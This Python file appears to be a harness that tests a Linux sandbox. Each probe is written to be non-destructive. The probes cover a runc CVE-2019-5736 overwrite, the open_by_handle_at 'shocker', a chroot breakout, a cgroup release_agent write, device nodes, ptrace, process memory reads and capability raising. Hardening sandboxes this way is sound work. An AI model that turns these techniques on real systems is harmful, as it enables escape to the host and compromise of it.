"""Attempts to get out of a sandbox, run inside of it: `python attempts.py FACTS.json RESULTS.json NAME...`.

Each is a function that raises OSError where it is refused and says how far it got where it is not. None of them does harm
where it succeeds: what it writes is what was there, what it calls is called with arguments that lead nowhere. Standard
library only; each runs in a process of its own.
"""

# mypy: ignore-errors
from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import os
import select
import signal
import socket
import stat
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
NEWNS, NEWUSER, NEWUTS = 0x00020000, 0x10000000, 0x04000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_SHARED = 1, 32, 4096, 16384, 1 << 20
NUMBERS = {  # x86_64, aarch64
    "ptrace": (101, 117),
    "syslog": (103, 116),
    "pivot_root": (155, 41),
    "adjtimex": (159, 171),
    "acct": (163, 89),
    "reboot": (169, 142),
    "swapon": (167, 224),
    "sethostname": (170, 161),
    "setdomainname": (171, 162),
    "iopl": (172, -1),
    "delete_module": (176, 106),
    "capset": (126, 91),
    "capget": (125, 90),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "keyctl": (250, 219),
    "kexec_load": (246, 104),
    "perf_event_open": (298, 241),
    "fanotify_init": (300, 262),
    "open_by_handle_at": (304, 265),
    "finit_module": (313, 273),
    "bpf": (321, 280),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "clone3": (435, 435),
    "process_vm_readv": (310, 270),
}
FACTS: dict = {}
OWN: set = set()


def call(name, *arguments):
    number = NUMBERS[name][ARM]
    return check(LIBC.syscall(ctypes.c_long(number), *arguments))


def check(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def past_permission(action, *fine):
    """Refused for want of permission, or through: the arguments were looked at, and found to be nonsense."""
    try:
        action()
    except OSError as error:
        if error.errno in fine:
            return f"got as far as {errno.errorcode[error.errno]}"
        raise
    return "done"


def mount(source, target, kind, flags=0, data=None):
    check(LIBC.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data))


def read_byte(path):
    with open(path, "rb", buffering=0) as file:
        if not file.read(1):
            raise OSError(errno.ENODATA, f"{path} is empty")
    return f"read a byte of {path}"


def write_same(path):
    with open(path, "rb", buffering=0) as file:
        value = file.read()
    with open(path, "wb", buffering=0) as file:
        file.write(value)
    return f"wrote to {path}"


def node(kind, major, minor, flags=os.O_RDONLY):
    path = f"/tmp/node-{major}-{minor}"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return os.open(path, flags | os.O_NONBLOCK)


def victim():
    """The pid of a process of the host, as it is seen from here."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if FACTS["victim"].encode() in file.read() and int(name) != os.getpid():
                    return int(name)
        except OSError:
            continue
    raise OSError(errno.ESRCH, "no process of the host is seen")


# The file systems of the kernel.


def proc_sys_write():
    return write_same("/proc/sys/vm/swappiness")


def core_pattern():
    return write_same("/proc/sys/kernel/core_pattern")


def proc_sys_remount():
    mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND)
    return write_same("/proc/sys/vm/swappiness")


def fresh_proc():
    os.makedirs("/tmp/proc", exist_ok=True)
    mount("proc", "/tmp/proc", "proc")
    return write_same("/tmp/proc/sys/vm/swappiness")


def sysrq_trigger():
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "opened for writing; nothing was written"


def kcore():
    return read_byte("/proc/kcore")


def unmask():
    check(LIBC.umount2(b"/proc/keys", 2))
    return "took a mask away"


def kernel_log():
    buffer = ctypes.create_string_buffer(64)
    return f"read {call('syslog', 3, buffer, 64)} bytes"


def sys_firmware():
    if not os.listdir("/sys/firmware"):
        raise OSError(errno.ENOENT, "nothing is in /sys/firmware")
    return "looked into /sys/firmware"


def sys_write():
    return write_same("/sys/kernel/mm/transparent_hugepage/khugepaged/scan_sleep_millisecs")


def debugfs():
    os.makedirs("/tmp/debug", exist_ok=True)
    mount("debugfs", "/tmp/debug", "debugfs")
    return "mounted debugfs"


# Mounts.


def mount_tmpfs():
    os.makedirs("/tmp/m", exist_ok=True)
    mount("tmpfs", "/tmp/m", "tmpfs")
    return "mounted a tmpfs"


def mount_propagation():
    mount("none", "/out", "", MS_SHARED | MS_REC)
    os.makedirs("/out/propagated", exist_ok=True)
    mount("tmpfs", "/out/propagated", "tmpfs")
    return "mounted below a directory of the host"


def remount_read_only_bind():
    mount("none", "/read-only", "", MS_REMOUNT | MS_BIND)
    with open("/read-only/written", "w"):
        return "wrote to a read-only mount"


def pivot_root():
    os.makedirs("/tmp/new/old", exist_ok=True)
    mount("/tmp/new", "/tmp/new", "", MS_BIND)
    os.makedirs("/tmp/new/old", exist_ok=True)
    call("pivot_root", b"/tmp/new", b"/tmp/new/old")
    return "changed the root"


def open_by_handle():
    """The "shocker": the root of the host's file system by its inode number."""
    where = os.open("/etc/hosts", os.O_RDONLY)
    handle = struct.pack("IiII", 8, 1, 2, 0)  # FILEID_INO32_GEN: inode 2, any generation
    descriptor = call("open_by_handle_at", where, handle, os.O_RDONLY)
    return f"opened {os.listdir(descriptor)[:3]}"


def chroot_breakout():
    """Out of a chroot by a directory that is outside of it: works on chroot(2), leads to the root of the mounts."""
    outside = os.open("/", os.O_RDONLY)
    if FACTS["jail"]:
        os.makedirs("/jail", exist_ok=True)
        os.chroot("/jail")
        os.chdir("/")
        if os.path.exists(FACTS["inside"]):
            raise RuntimeError("the jail is none")
    os.makedirs("deeper", exist_ok=True)
    os.chroot("deeper")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    wanted = FACTS["inside"] if FACTS["jail"] else FACTS["outside"]
    if not os.path.exists(wanted):
        raise OSError(errno.ENOENT, "the outside is not there")
    return "broke out"


# Devices.


def disk_node():
    os.read(node(stat.S_IFBLK, *FACTS["disk"]), 1)
    return "read a byte of a disk"


def mem_node():
    node(stat.S_IFCHR, 1, 1)
    return "opened /dev/mem"


def kmsg_node():
    node(stat.S_IFCHR, 1, 11)
    return "opened /dev/kmsg"


def tun_node():
    node(stat.S_IFCHR, 10, 200, os.O_RDWR)
    return "opened /dev/net/tun"


def loop_control():
    node(stat.S_IFCHR, 10, 237, os.O_RDWR)
    return "opened /dev/loop-control"


def host_terminal():
    """TIOCSTI: type at a terminal of the host."""
    terminal = os.open("/host-tty", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    fcntl.ioctl(terminal, 0x5412, b"x")
    return "typed"


# Control groups.


def release_agent():
    for name in FACTS["hierarchies"]:
        place = f"/tmp/cgroup-{name}"
        os.makedirs(place, exist_ok=True)
        mount("cgroup", place, "cgroup", 0, name.encode())
        return write_same(f"{place}/release_agent")
    raise OSError(errno.ENOENT, "no hierarchy")


def raise_limit():
    for path in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"):
        if os.path.exists(path):
            return write_same(path)
    raise OSError(errno.ENOENT, "no pids.max")


def outer_group():
    """Out of the sandbox's group, to the one around it."""
    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
        if os.path.exists(path):
            with open(path, "w") as file:
                file.write(str(os.getpid()))
            return f"moved to {path}"
    raise OSError(errno.ENOENT, "no group")


# Other processes.


def see_host_process():
    return f"saw {victim()}"


def signal_host_process():
    os.kill(victim(), 0)
    return "may signal it"


def trace_host_process():
    pid = victim()
    call("ptrace", ctypes.c_long(0x4206), ctypes.c_long(pid), None, None)  # PTRACE_SEIZE: it goes on
    return "traces it"


def read_host_memory():
    pid = victim()
    with open(f"/proc/{pid}/maps") as file:
        start = int(file.readline().partition("-")[0], 16)
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("PP", ctypes.addressof(buffer), 8)
    remote = struct.pack("PP", start, 8)
    count = call(
        "process_vm_readv", pid, local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0)
    )
    return f"read {count} bytes"


def root_of_host_process():
    os.stat(f"/proc/{victim()}/root{FACTS['outside']}")
    return "saw the host's files"


def setns():
    own = os.stat("/proc/self/ns/uts").st_ino
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            namespace = os.open(f"/proc/{name}/ns/uts", os.O_RDONLY)
        except OSError:
            continue
        if os.fstat(namespace).st_ino != own:
            check(LIBC.setns(namespace, NEWUTS))
            return "entered another namespace"
    raise OSError(errno.ESRCH, "no other namespace is seen")


def overwrite_runtime():
    """CVE-2019-5736: write to the program of a process that came in from the host, once it has ended."""
    with open("/out/ready", "w"):
        pass
    deadline = time.monotonic() + 20
    refused = OSError(errno.ETIME, "nobody came")
    while time.monotonic() < deadline:
        for name in filter(str.isdigit, os.listdir("/proc")):
            path = f"/proc/{name}/exe"
            try:
                if os.readlink(path).rpartition("/")[2].split(" ")[0] != FACTS["visitor"]:
                    continue
                program = os.open(path, os.O_RDONLY)
                while os.path.exists(f"/proc/{name}"):
                    time.sleep(0.05)
                again = os.open(f"/proc/self/fd/{program}", os.O_WRONLY)
                os.pwrite(again, b"\x7f", 0)  # as it was
            except PermissionError as error:
                refused = error
                deadline = min(deadline, time.monotonic() + 2)
                continue
            except OSError as error:
                refused = error
                continue
            return "wrote to a program of the host"
        time.sleep(0.01)
    raise refused


def leaked_descriptors():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and int(name) not in OWN and not target.startswith(("/proc/", "/out/", "/attempts")):
            found.append(target)
    if not found:
        raise OSError(errno.ENOENT, "no descriptor but our own")
    return f"has {found}"


# Privileges.


def gain_capability():
    header = struct.pack("Ii", 0x20080522, 0)
    held = ctypes.create_string_buffer(24)
    call("capget", header, held)
    words = list(struct.unpack("6I", held.raw))
    wanted = 1 << 21  # CAP_SYS_ADMIN
    words[0], words[1] = words[0] | wanted, words[1] | wanted
    call("capset", header, struct.pack("6I", *words))
    return "has CAP_SYS_ADMIN"


def ambient_capability():
    check(LIBC.prctl(47, 2, 21, 0, 0))  # PR_CAP_AMBIENT, RAISE, CAP_SYS_ADMIN
    return "CAP_SYS_ADMIN is ambient"


def set_user_id():
    """A set-user-id program of root, made here and run as nobody."""
    path = "/tmp/suid"
    with open("/usr/bin/cat", "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        os.dup2(writing, 1)
        os.execv(path, ["cat", "/proc/self/status"])
    os.waitpid(child, 0)
    os.close(writing)
    status = os.read(reading, 4096).decode()
    ids = status.partition("\nUid:")[2].partition("\n")[0].split()
    if "0" not in ids:
        raise OSError(errno.EPERM, f"ids are {ids}")
    return "is root"


def user_namespace():
    check(LIBC.unshare(NEWUSER | NEWNS))
    return "has a user namespace of its own"


def user_namespace_clone3():
    size = 88
    arguments = ctypes.create_string_buffer(
        struct.pack("Q", NEWUSER) + bytes(32 - 8) + struct.pack("Q", signal.SIGCHLD), size
    )
    pid = call("clone3", arguments, ctypes.c_size_t(size))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "has a user namespace of its own"


def mount_namespace():
    check(LIBC.unshare(NEWNS))
    return "has a mount namespace of its own"


def key_of_host():
    """A key that the host's root has in its user keyring."""
    key = call(
        "keyctl", ctypes.c_long(10), ctypes.c_long(-4), b"user", FACTS["key"].encode(), ctypes.c_long(0)
    )
    return f"found key {key}"


# System calls with much of the kernel behind them.


def bpf():
    attributes = struct.pack("4I", 2, 4, 8, 1) + bytes(112)  # BPF_MAP_CREATE: an array
    call("bpf", 0, attributes, 128)
    return "made a map"


def perf_event():
    attributes = struct.pack("IIQ", 1, 128, 0) + bytes(112)  # a software event of this process
    call("perf_event_open", attributes, 0, -1, -1, 0)
    return "opened a counter"


def io_uring():
    call("io_uring_setup", 4, ctypes.create_string_buffer(120))
    return "made a ring"


def userfault():
    call("userfaultfd", 0)
    return "handles page faults of the kernel"


def fanotify():
    call("fanotify_init", 0x04, 0)  # FAN_CLASS_CONTENT
    return "watches"


def kexec():
    return past_permission(lambda: call("kexec_load", 0, ctypes.c_ulong(17), None, 0xFFFF0000), errno.EINVAL)


def load_module():
    def load():
        with open("/etc/hosts") as file:
            call("finit_module", file.fileno(), b"", 0)

    return past_permission(load, errno.ENOEXEC, errno.EINVAL)


def unload_module():
    return past_permission(lambda: call("delete_module", b"no_such_module", os.O_NONBLOCK), errno.ENOENT)


def reboot():
    return past_permission(lambda: call("reboot", 0xFEE1DEAD, 672274793, 0x7F7F7F7F, None), errno.EINVAL)


def swap():
    return past_permission(lambda: call("swapon", b"/no/such/file", 0), errno.ENOENT)


def accounting():
    return past_permission(lambda: call("acct", b"/no/such/file"), errno.ENOENT)


def clock():
    buffer = ctypes.create_string_buffer(struct.pack("I", 0) + bytes(204))
    call("adjtimex", buffer)
    tick = struct.unpack_from("q", buffer, 88)[0]
    again = ctypes.create_string_buffer(bytes(208))
    struct.pack_into("I", again, 0, 0x4000)  # ADJ_TICK, to what it is
    struct.pack_into("q", again, 88, tick)
    call("adjtimex", again)
    return "set the clock's tick"


def hostname():
    name = os.uname().nodename.encode()
    call("sethostname", name, len(name))
    return "set the host name"


def domain_name():
    call("setdomainname", b"(none)", 6)
    return "set the domain name"


def ports():
    call("iopl", 3)
    return "may use the machine's ports"


def priority():
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return "runs before everybody"


# The network.


def abstract_socket():
    client = socket.socket(socket.AF_UNIX)
    client.connect("\0" + FACTS["abstract"])
    return "connected to a socket of the host"


def host_port():
    socket.create_connection(("127.0.0.1", FACTS["port"]), timeout=3).close()
    return "connected to a port of the host"


def metadata():
    socket.create_connection(("169.254.169.254", 80), timeout=3).close()
    return "reached the metadata service"


def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return "has a raw socket"


def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return "has a packet socket"


def configure_network():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        request = struct.pack("16sh22x", b"lo", 0x49)
        fcntl.ioctl(one, 0x8914, request)  # SIOCSIFFLAGS: up, as it is
    return "configured a link"


def attempt(name):
    """(through, words) of one attempt, made in a process of its own."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reading)
        OWN.add(writing)
        LIBC.unshare(NEWNS)  # where it may: what one mounts is not in the way of the next
        try:
            answer = [True, globals()[name]()]
        except OSError as error:
            answer = [False, f"{errno.errorcode.get(error.errno, error.errno)}: {error.strerror}"]
        except BaseException as error:
            answer = [None, repr(error)]
        os.write(writing, json.dumps(answer).encode())
        os._exit(0)
    os.close(writing)
    select.select([reading], [], [], 30)
    data = os.read(reading, 65536)
    if not data:
        os.kill(child, signal.SIGKILL)
    status = os.waitpid(child, 0)[1]
    os.close(reading)
    return json.loads(data) if data else [False, f"killed, or hung: {status}"]


def main():
    facts, results, *names = sys.argv[1:]
    with open(facts) as file:
        FACTS.update(json.load(file))
    os.makedirs("/tmp", exist_ok=True)
    found = {name: attempt(name) for name in names}
    with open(results + ".new", "w") as file:
        json.dump(found, file)
    os.rename(results + ".new", results)


if __name__ == "__main__":
    main()
